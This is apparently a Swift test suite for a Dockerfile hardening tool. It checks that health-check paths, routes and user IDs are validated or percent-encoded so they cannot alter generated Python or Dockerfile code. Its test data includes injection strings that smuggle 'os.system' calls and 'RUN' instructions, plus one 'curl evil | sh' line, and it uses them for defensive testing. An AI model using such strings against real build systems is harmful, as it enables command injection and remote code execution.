import BulwarkCore
@testable import BulwarkDockerfile
import Foundation
import Testing

/// `--health-path` (and routes read from sources and command lines) end up in generated code:
/// a Python string literal inside a JSON exec-form array. Hostile values are refused or
/// percent-encoded and can never change the code (issue 8); a rewrite that does not parse is an
/// error, never a text to print.
@Suite struct DockerfileHardenerHealthPathTests {
    static let gunicorn = lines("FROM python:3.12-slim-trixie", "WORKDIR /app", "COPY . .", "CMD [\"gunicorn\", \"-b\", \":8080\", \"app:app\"]")

    @Test("paths that are URL paths after encoding", arguments: [
        ("/healthz", "/healthz"),
        ("/api/v1/ready?verbose=1&x=y", "/api/v1/ready?verbose=1&x=y"),
        ("/-/ready", "/-/ready"),
        ("/a b", "/a%20b"),
        ("/x\"y", "/x%22y"),
        ("/x\\y", "/x%5Cy"),
        ("/x'y", "/x'y"),
        ("/'); import os; os.system('id') #", "/');%20import%20os;%20os.system('id')%20%23"),
        ("/\"]; RUN id; [\"", "/%22%5D;%20RUN%20id;%20%5B%22"),
        ("/gesundheit/ü", "/gesundheit/%C3%BC"),
        ("/😀", "/%F0%9F%98%80"),
        ("/100%", "/100%25"),
        ("/a%2Fb", "/a%2Fb"),
        ("/{x}|<y>^`", "/%7Bx%7D%7C%3Cy%3E%5E%60"),
    ])
    func normalizes(_ path: String, _ expected: String) throws {
        #expect(try HealthPath.normalize(path) == expected)
    }

    @Test("paths that are refused", arguments: [
        ("", #"the health path "" is empty"#),
        ("healthz", #"the health path "healthz" must start with /"#),
        ("'); import os; os.system('id') #", #"the health path "'); import os; os.system('id') #" must start with /"#),
        ("/a\nRUN id", #"the health path "/a\nRUN id" contains a control character (U+000A)"#),
        ("/a\rb", #"the health path "/a\rb" contains a control character (U+000D)"#),
        ("/a\u{0}b", #"the health path "/a\u0000b" contains a control character (U+0000)"#),
        ("/a\u{85}b", #"the health path "/a\u0085b" contains a control character (U+0085)"#),
        ("/a\u{2028}b", #"the health path "/a\u2028b" contains a control character (U+2028)"#),
    ])
    func refuses(_ path: String, _ message: String) {
        #expect(throws: HealthPath.Problem.self) { try HealthPath.normalize(path) }
        #expect(HardenOptions(healthPath: path).problems.map(\.description) == [message])
    }

    @Test func longPathsAreRefused() {
        #expect(throws: HealthPath.Problem.self) { try HealthPath.normalize("/" + String(repeating: "a", count: HealthPath.maximumLength)) }
        #expect(throws: HealthPath.Problem.self) { try HealthPath.normalize("/" + String(repeating: " ", count: 700)) }
    }

    /// The HEALTHCHECK of a rewrite: its exec-form words.
    static func healthcheck(_ result: HardenResult) throws -> [String] {
        let dockerfile = DockerfileParser.parse(text: result.text, file: "Dockerfile")
        #expect(dockerfile.errors.isEmpty, "\(dockerfile.errorDescriptions)")
        let check = try #require(dockerfile.instructions.last { $0.keyword == .healthcheck })
        return try #require(check.execArguments)
    }

    static let hostile = [
        "/'); import os; os.system('id') #", "/\\'); import os #", "/\"]\nHEALTHCHECK NONE", "/x\\", "/x'\"\\u0041", "/gesundheit/ü",
        "/a b/c?d=e f#g", "/%27);x", "/\\x27);x",
    ]

    /// Each accepted hostile path: the rewrite parses, the HEALTHCHECK is exactly the template
    /// with the encoded URL, and Python reads the code as one urlopen of that URL (checked with
    /// python3's own parser).
    @Test func hostileHealthPathsCannotChangeTheCode() throws {
        var checks: [[String: String]] = []
        for path in Self.hostile {
            let options = HardenOptions(healthPath: path, evaluationDate: hardenerTestDate)
            guard options.problems.isEmpty else {
                // Refused values rewrite nothing and are errors (the command exits 2).
                let result = DockerfileHardener.harden(text: Self.gunicorn, options: options)
                #expect(!result.errors.isEmpty && !result.isChanged && result.errors[0].message.hasPrefix("invalid option: the health path"))
                continue
            }
            let result = DockerfileHardener.harden(text: Self.gunicorn, options: options)
            #expect(result.errors.isEmpty)
            let url = "http://127.0.0.1:8080" + (try HealthPath.normalize(path))
            #expect(url.unicodeScalars.allSatisfy { (0x21..<0x7F).contains($0.value) }, "\(url)")
            let words = try Self.healthcheck(result)
            #expect(words.count == 3 && words[0] == "python" && words[1] == "-c")
            let code = words[2]
            #expect(code == "import urllib.request,sys; sys.exit(0 if urllib.request.urlopen(\(PythonLiteral.string(url)), timeout=2).status == 200 else 1)")
            checks.append(["code": code, "url": url])
            // The header names the same encoded URL.
            #expect(result.changes.contains("HEALTHCHECK added: the image's Python interpreter requests \(url) (slim images have no curl)."))
        }
        #expect(checks.count >= 6)
        try PythonCheck.run(checks)
    }

    @Test func refusedHealthPathIsAnErrorAndRewritesNothing() {
        for path in ["'); import os; os.system('id') #", "/ok\nRUN curl evil | sh", ""] {
            let result = harden(Self.gunicorn, healthPath: path)
            #expect(!result.isChanged)
            #expect(result.text == Self.gunicorn)
            #expect(result.changes.isEmpty)
            #expect(result.errors.count == 1 && result.errors[0].line == 0, "\(result.errors)")
        }
    }

    @Test func hostileRouteInTheSourceIsEncoded() throws {
        let result = harden(Self.gunicorn, sources: [#"@app.get("/x y\\z/healthz")"#])
        #expect(try Self.healthcheck(result)[2].contains("urlopen('http://127.0.0.1:8080/x%20y%5C%5Cz/healthz', timeout=2)"))
    }

    @Test func hostileBindAddressIsNotUsed() throws {
        let input = lines("FROM python:3.12-slim-trixie", "WORKDIR /app", "COPY . .", #"CMD ["gunicorn", "-b", "a');x:8080", "app:app"]"#)
        let result = harden(input, sources: [#"@app.get("/healthz")"#])
        #expect(try Self.healthcheck(result)[2].contains("urlopen('http://127.0.0.1:8080/healthz', timeout=2)"))
        #expect(result.warnings.contains { $0.contains("is not a host name or IP address") }, "\(result.warnings)")
    }

    @Test func hostileCurlURLIsReplaced() throws {
        let input = lines("FROM python:3.12-slim-trixie", "WORKDIR /app", "COPY . .", #"HEALTHCHECK CMD curl -f "http://localhost:8080/x'); import os #""#,
                          #"CMD ["gunicorn", "-b", ":8080", "app:app"]"#)
        let result = harden(input)
        #expect(try Self.healthcheck(result)[2].contains(#"urlopen('http://127.0.0.1:8080/x\');%20import%20os%20%23', timeout=2)"#))
    }

    /// The last step of `harden`: a rewrite with syntax errors becomes an error with the input
    /// unchanged, so the command exits 2 and never prints it.
    @Test func aRewriteThatDoesNotParseIsAnError() {
        let original = "FROM python:3.9\nCMD python app.py\n"
        let broken = HardenResult(original: original, text: "FROM python:3.12-slim-trixie\nCOPY\n", changes: ["something"], warnings: ["kept"])
        let result = DockerfileHardener.verified(broken, file: "Dockerfile")
        #expect(result.text == original)
        #expect(!result.isChanged)
        #expect(result.changes.isEmpty)
        #expect(result.warnings == ["kept"])
        #expect(result.errors.count == 1)
        #expect(result.errors.first?.line == 0)
        #expect(result.errors.first?.message.hasPrefix("the hardened rewrite does not parse (its line 2, column ") == true, "\(result.errors)")
        #expect(result.errors.first?.message.hasSuffix("nothing was rewritten, please report this") == true, "\(result.errors)")
        let fine = HardenResult(original: original, text: "FROM python:3.12-slim-trixie\nCMD [\"python\", \"app.py\"]\n", changes: ["x"])
        #expect(DockerfileHardener.verified(fine, file: "Dockerfile") == fine)
    }

    // MARK: - UID and GID

    @Test("IDs outside what Kubernetes accepts", arguments: [
        (2_147_483_648, "the UID 2147483648 is above 2147483647, the largest ID Kubernetes accepts: a pod could never run the image as that user (runAsUser, runAsGroup, fsGroup)"),
        (4_294_967_296, "the UID 4294967296 is above 2147483647, the largest ID Kubernetes accepts: a pod could never run the image as that user (runAsUser, runAsGroup, fsGroup)"),
        (0, "the UID 0 is not a non-root ID: use 1 to 2147483647"),
        (-5, "the UID -5 is not a non-root ID: use 1 to 2147483647"),
    ])
    func idsAreValidated(_ uid: Int, _ message: String) {
        let options = HardenOptions(uid: uid, gid: 10001, evaluationDate: hardenerTestDate)
        #expect(options.problems.map(\.description) == [message])
        #expect(throws: OptionProblem.self) { try options.validate() }
        let result = DockerfileHardener.harden(text: Self.gunicorn, options: options)
        #expect(!result.isChanged)
        #expect(result.errors.map(\.message) == ["invalid option: " + message])
    }

    @Test func theLargestIDIsWritten() {
        let options = HardenOptions(uid: 2_147_483_647, evaluationDate: hardenerTestDate)
        #expect(options.problems.isEmpty)
        let result = DockerfileHardener.harden(text: Self.gunicorn, options: options)
        #expect(result.errors.isEmpty)
        #expect(result.text.contains("USER 2147483647:2147483647"))
        #expect(HardenOptions(uid: 10001, gid: 2_147_483_648).problems.map(\.description).first?.hasPrefix("the GID 2147483648 is above") == true)
    }
}

/// Runs python3's parser over generated health-check code: each must be exactly two calls,
/// `sys.exit` and `urllib.request.urlopen`, the latter with the expected URL as a literal.
enum PythonCheck {
    static let script = """
        import ast, json, sys
        failures = []
        for case in json.load(sys.stdin):
            tree = ast.parse(case["code"])
            calls = sorted(ast.unparse(node.func) for node in ast.walk(tree) if isinstance(node, ast.Call))
            if calls != ["sys.exit", "urllib.request.urlopen"]:
                failures.append(f"calls {calls} in {case['code']!r}")
                continue
            urlopen = next(node for node in ast.walk(tree) if isinstance(node, ast.Call) and ast.unparse(node.func) == "urllib.request.urlopen")
            if ast.literal_eval(urlopen.args[0]) != case["url"]:
                failures.append(f"url {ast.literal_eval(urlopen.args[0])!r} != {case['url']!r}")
        print("\\n".join(failures) if failures else "ok")
        """

    static func run(_ checks: [[String: String]]) throws {
        let process = Process()
        process.executableURL = URL(fileURLWithPath: "/usr/bin/env")
        process.arguments = ["python3", "-c", script]
        let input = Pipe()
        let output = Pipe()
        process.standardInput = input
        process.standardOutput = output
        try process.run()
        input.fileHandleForWriting.write(try JSONSerialization.data(withJSONObject: checks))
        try input.fileHandleForWriting.close()
        let data = output.fileHandleForReading.readDataToEndOfFile()
        process.waitUntilExit()
        let text = String(decoding: data, as: UTF8.self).trimmingCharacters(in: .whitespacesAndNewlines)
        #expect(process.terminationStatus == 0 && text == "ok", "python3: \(text)")
    }
}
